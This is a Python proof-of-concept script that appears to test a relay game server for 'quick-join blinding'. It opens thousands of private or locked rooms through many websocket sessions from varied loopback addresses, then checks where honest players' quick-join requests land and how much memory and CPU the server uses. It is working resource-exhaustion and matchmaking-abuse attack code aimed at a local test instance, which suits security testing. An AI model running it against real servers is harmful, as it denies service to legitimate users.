"""Quick-join blinding: K private (or locked) rooms of the default type whose ids sort
first ("0000..."), kept open by S sessions of 16 rooms each from several source
addresses; then H honest players quick-join with the same filter one after another:
how many rooms do they end up in? (Expected by the docs: one, filling up.)"""
import asyncio, os, time
from lib18 import *
K = int(os.environ.get("K", "2000")); H = int(os.environ.get("H", "10")); KIND = os.environ.get("KIND", "private")
URLX = os.environ.get("URL", URL); PID = int(open(os.environ.get("PIDF", "r1.pid")).read())
async def holder(idx, rooms, stats):
    c = C()
    c.ws = await websockets.connect(URLX, max_size=1 << 24, ping_interval=None, local_addr=("127.7.%d.%d" % (idx // 50 , idx % 50 + 1), 0))
    await c.ws.recv(); c.task = asyncio.create_task(c._read())
    msgs = []
    for j, r in enumerate(rooms):
        opts = pb.RoomOptions(private=True) if KIND == "private" else pb.RoomOptions(metadata={"mode": "other"})
        msgs.append(cm(join=pb.JoinRoom(request_id=j + 1, room=r, room_type="relay", create=opts)))
    await c.send(*msgs)
    await asyncio.sleep(1.5)
    stats["joined"] += len(c.of("joined")); stats["err"] += len(c.of("error"))
    return c
async def main():
    if K:
        ids = ["0%06d" % i for i in range(K)]
        stats = {"joined": 0, "err": 0}
        holders = []
        for i in range(0, K, 16 * 8):
            hs = await asyncio.gather(*[holder((i // 16) + j, ids[i + 16 * j:i + 16 * (j + 1)], stats) for j in range(8) if i + 16 * j < K])
            holders += hs
        print("attacker rooms joined", stats, "sessions", len(holders), "rss MiB", rss_kib(PID) // 1024, flush=True)
        if KIND == "locked":
            pass
    t0 = cpu_secs(PID)
    rooms = []
    for i in range(H):
        h = await C().open(url=URLX)
        await h.send(cm(quick_join=pb.QuickJoin(request_id=1, room_type="relay", filters={"mode": "ctf"})))
        m = await h.wait(lambda k, m: k in ("joined", "error"))
        rooms.append(m.joined.room if m.WhichOneof("kind") == "joined" else ("ERR", m.error.message))
        await asyncio.sleep(0.3)
    print("honest quick joins landed in", len(set(rooms)), "rooms:", rooms)
    l = await C().open(url=URLX)
    await l.send(cm(request=pb.Request(request_id=1, list_rooms=pb.ListRooms(filters={"mode": "ctf"}, open_only=True))))
    r = await l.wait(lambda k, m: k == "response")
    print("ListRooms(mode=ctf) first page:", [(x.room, x.members) for x in r.response.rooms.rooms], "more", r.response.rooms.more, r.response.rooms.next_after)
asyncio.run(main())
